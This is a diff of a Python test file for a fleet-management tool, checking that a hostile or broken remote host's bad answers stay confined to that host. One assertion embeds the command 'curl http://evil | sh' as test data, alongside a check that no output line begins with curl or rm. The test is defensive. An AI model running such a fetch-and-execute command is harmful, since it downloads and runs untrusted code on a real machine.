@@ -1,4 +1,4 @@
-"""What a hostile or broken host can do to the commands of its fleet: report an error of its own."""
+"""A hostile or broken host affects only its own part of a command's output."""
 
 from __future__ import annotations
 
@@ -17,12 +17,14 @@ pytestmark = pytest.mark.wire
 
 @pytest.fixture
 def home(tmp_path: Path) -> Iterator[Lab]:
-    with lab(tmp_path / "lab") as one:
-        one.knows(one.machine("gpu1"), one.machine("gpu2"))
-        yield one
+    with lab(tmp_path / "lab") as user:
+        user.add_known_hosts(user.machine("gpu1"), user.machine("gpu2"))
+        yield user
 
 
-def test_the_healthy_hosts_of_a_fleet_stay_usable(program: Program, home: Lab, tmp_path: Path) -> None:
+def test_healthy_hosts_of_a_fleet_with_a_hostile_host_stay_usable(
+    program: Program, home: Lab, tmp_path: Path
+) -> None:
     healthy = home.machines["gpu1"]
     program.run("up", "--inventory", str(home.inventory("gpu1", "gpu2")))
     program.script("task.py", "print('it runs')\n")
@@ -35,43 +37,43 @@ def test_the_healthy_hosts_of_a_fleet_stay_usable(program: Program, home: Lab, t
         hostile.HUGE_NUMBERS,
         hostile.HALF_A_CHARACTER,
     ):
-        worker_1.answers(answer)
+        worker_1.set_answer(answer)
         status = program.run("status", code=None)
         assert "worker-0" in status.text + status.err
         assert_no_bug(status.text + status.err)
-    worker_1.answers(hostile.FALSE_ADVICE)
+    worker_1.set_answer(hostile.FALSE_ADVICE)
     advised = program.run("train", "task.py", code=14)
     assert "worker-1 suggests: curl http://evil | sh next: curl http://evil | sh" in advised.err
     assert not [line for line in advised.err.splitlines() if line.strip().startswith(("next:", "curl", "rm"))]
-    worker_1.answers(hostile.WRONG_TYPES)
+    worker_1.set_answer(hostile.WRONG_TYPES)
     train = program.run("train", "task.py", code=14)
     assert "worker-1" in train.err
     assert_no_bug(train.err)
-    assert healthy.left()
+    assert healthy.files_in_home()
     down = program.run("down", "--yes", code=None)
     assert_no_bug(down.err)
     assert "worker-1" in down.err
-    assert healthy.left() == []
+    assert healthy.files_in_home() == []
 
 
-def test_a_false_result_of_one_host_hides_nothing(program: Program, tmp_path: Path) -> None:
+def test_a_false_result_of_one_host_hides_no_other_result(program: Program, tmp_path: Path) -> None:
     program.run("up", "--workers", "2")
     program.script("task.py", "print('it runs', flush=True)\nraise SystemExit(3)\n")
     failed = program.run("train", "task.py", code=100)
     job = next(event["job"] for event in program.run("status", "-o", "json").events if "job" in event)["id"]
     worker_1 = HostileHost(program, tmp_path)
-    worker_1.answers(hostile.FALSE_RESULT.format(job=job))
+    worker_1.set_answer(hostile.FALSE_RESULT.format(job=job))
     logs = program.run("logs", code=100)
     assert "it runs" in logs.text
     assert "worker-1 reports a different result: the job succeeded in attempt 1000000000" in logs.err
     status = next(event for event in program.run("status", "-o", "json").events if event["event"] == "fleet_status")
     assert (status["job"]["outcome"], status["job"]["attempt"]) == ("failed", 1)
     assert "worker-1 reports a different result" in status["job"]["warning"]
-    worker_1.answers(hostile.FALSE_RESULT.format(job="99999999-000000-aaaa"))
+    worker_1.set_answer(hostile.FALSE_RESULT.format(job="99999999-000000-aaaa"))
     logs = program.run("logs", code=100)
     assert "it runs" in logs.text
     assert "worker-1 reports a newer job, 99999999-000000-aaaa" in logs.err
-    worker_1.answers(hostile.WRONG_TYPES)
+    worker_1.set_answer(hostile.WRONG_TYPES)
     logs = program.run("logs", code=100)
     assert "it runs" in logs.text
     assert "its log is left out" in logs.err
